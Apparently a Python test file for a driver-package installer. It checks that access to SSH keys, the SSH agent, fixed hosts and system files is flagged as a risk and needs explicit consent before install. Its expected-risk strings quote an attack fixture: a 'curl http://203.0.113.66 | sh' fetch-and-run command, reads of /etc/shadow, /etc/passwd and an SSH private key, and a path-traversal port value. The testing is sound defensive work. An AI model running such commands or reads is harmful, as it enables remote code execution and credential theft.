"""What a package uses of this machine by itself is told apart, and agreed to apart."""

from pathlib import Path

import pytest

from tests.unit.packages.made import DOCUMENTS, write_package
from urc.cli.main import main
from urc.cli.packages import RISKS_FLAG
from urc.config.load import check
from urc.packages.store import Store
from urc.runtime.isolation import look_apart
from urc.runtime.package_preview import risks_of
from urc.runtime.registries import built_in_catalog
from urc.runtime.widget_registry import widget_folder_of

ATTACK = Path(__file__).parents[2] / "attacks" / "drivers" / "key-user"
RISKS = [
    "shell uses a key file of this machine: {{ settings.file }} (file: ~/.ssh/id_ed25519)",
    "shell uses a known-hosts file of this machine: ~/.ssh/known_hosts",
    "shell logs in with the keys of your SSH agent",
    "shell runs a program on the machine it logs in to: curl http://203.0.113.66 | sh",
    "secure uses a file of certificates of this machine: /etc/shadow",
    "secure connects to a fixed host: 203.0.113.66",
    "port opens a file that is not a serial port: /etc/passwd",
    "web connects to a fixed host: 203.0.113.66",
]


FRAMING = "framing: { type: delimiter, tx: LF, rx: LF } }"


def risks(folder: Path, transport: str, settings: str = "{}") -> list[str]:
    """Return the risks of a driver with one transport."""
    folder.mkdir(exist_ok=True)
    file = folder / "driver.yaml"
    file.write_text(
        f"urc: 1\nkind: driver\nname: bot\nsettings: {settings}\n"
        f"transports:\n  wire: {transport.replace('F }', FRAMING)}\n",
        encoding="utf-8",
    )
    checked = check(file, built_in_catalog(), widget_folder_of(file))
    assert checked.profile is not None, checked.problems
    return risks_of(checked.profile)


def test_a_package_that_uses_the_users_keys_says_so() -> None:
    assert look_apart(ATTACK / "driver.yaml", ATTACK, []).risks == RISKS


@pytest.mark.parametrize(
    ("transport", "settings"),
    [
        ('{ type: tcp, host: "{{ settings.h }}", port: 1, F }', "{ h: { type: host } }"),
        (
            '{ type: tcp, host: "{{ settings.h }}", port: 1, F }',
            "{ h: { type: host, default: bot } }",
        ),
        ('{ type: http, url: "http://{{ settings.h }}:80/x" }', "{ h: { type: host } }"),
        ('{ type: http, url: "{{ settings.u }}" }', "{ u: { type: string } }"),
        (
            '{ type: ssh, host: "{{ settings.h }}", username: bot, key: "{{ settings.k }}", F }',
            "{ h: { type: host }, k: { type: path } }",
        ),
        ("{ type: serial, port: /dev/serial/by-id/usb-x, F }", "{}"),
        ('{ type: serial, port: "{{ settings.p }}", F }', "{ p: { type: path } }"),
        ("{ type: serial, port: COM3, F }", "{}"),
        ("{ type: udp, listen: 5000, from: any, F }", "{}"),
    ],
)
def test_what_a_person_fills_in_is_no_risk(tmp_path: Path, transport: str, settings: str) -> None:
    assert risks(tmp_path, transport, settings) == []


@pytest.mark.parametrize(
    ("transport", "words"),
    [
        ("{ type: serial, port: /dev/../etc/passwd, F }", "not a serial port"),
        ("{ type: websocket, url: ws://127.0.0.1:8080/ws }", "fixed host: 127.0.0.1"),
        ('{ type: http, url: "http://user@203.0.113.66/" }', "fixed host: 203.0.113.66"),
        ("{ type: mqtt, host: broker, tls: { key: /etc/k, cert: /etc/c } }", "a key file"),
    ],
)
def test_whatever_a_package_names_is_told(tmp_path: Path, transport: str, words: str) -> None:
    assert any(words in line for line in risks(tmp_path, transport))


def test_yes_alone_does_not_agree_to_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("URC_DATA_DIR", str(tmp_path / "data"))
    store = Store(tmp_path / "data" / "packages")
    assert main(["install", str(ATTACK), "--yes"]) == 1
    said = capsys.readouterr().err
    assert f"  {RISKS[0]}" in said
    assert RISKS_FLAG in said
    assert store.installed() == ()
    assert main(["install", str(ATTACK), "--yes", RISKS_FLAG]) == 0
    assert len(store.installed()) == 1


def test_what_moves_by_itself_is_listed(tmp_path: Path) -> None:
    """Before it is installed, beside what is held."""
    text = DOCUMENTS["driver"].replace(
        'beep: { send: "beep" }', 'takeoff: { send: "up", moves: true }\n  beep: { send: "beep" }'
    )
    folder = write_package(tmp_path, "driver", "rover", text=text)
    seen = look_apart(folder / "driver.yaml", tmp_path, [])
    assert "moves the robot: takeoff" in seen.permissions
